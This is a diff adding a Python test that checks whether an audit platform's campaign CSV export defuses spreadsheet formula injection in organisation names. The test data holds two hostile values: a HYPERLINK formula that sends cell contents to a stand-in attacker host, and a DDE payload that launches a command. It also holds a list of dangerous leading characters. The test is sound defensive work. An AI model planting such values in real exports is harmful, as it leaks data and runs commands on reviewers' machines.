@@ -787,3 +787,36 @@ def test_what_is_asked_says_first_renewed_or_newer_version(
     assert ask(org, reviewer, version).asked_for == "A renewed attestation"
     newer, _ = publish(next_version(tmp_path))
     assert ask(org, reviewer, newer).asked_for == "An attestation on a newer questionnaire version"
+
+
+HOSTILE = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_campaign_cell_runs_as_a_formula_whatever_organizations_are_called(
+    client, reviewer, org, other_org, figures, framework_version
+):
+    """Organizations name themselves: a name made to run in the reviewer's spreadsheet reaches
+    the campaign CSV as text, as it does the queue CSV and the workbook."""
+    from platform_audits.campaigns import Selection, launch
+
+    org.legal_name = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    org.save(update_fields=["legal_name"])
+    other_org.legal_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    other_org.save(update_fields=["legal_name"])
+    campaign = launch(
+        actor=Actor(reviewer),
+        name="+Hostile campaign",
+        selection=Selection(violation_rate_above=5),
+        framework_version=framework_version,
+        reason="-Above threshold.",
+        due_on=in_days(30),
+    )
+    client.force_login(reviewer)
+
+    response = client.get(reverse("campaign_csv", args=[campaign.pk]))
+
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    names = [c for c in cells if "HYPERLINK" in c or "SUM(" in c]
+    assert len(names) == 2
+    assert not [c for c in cells if c.startswith(HOSTILE)]
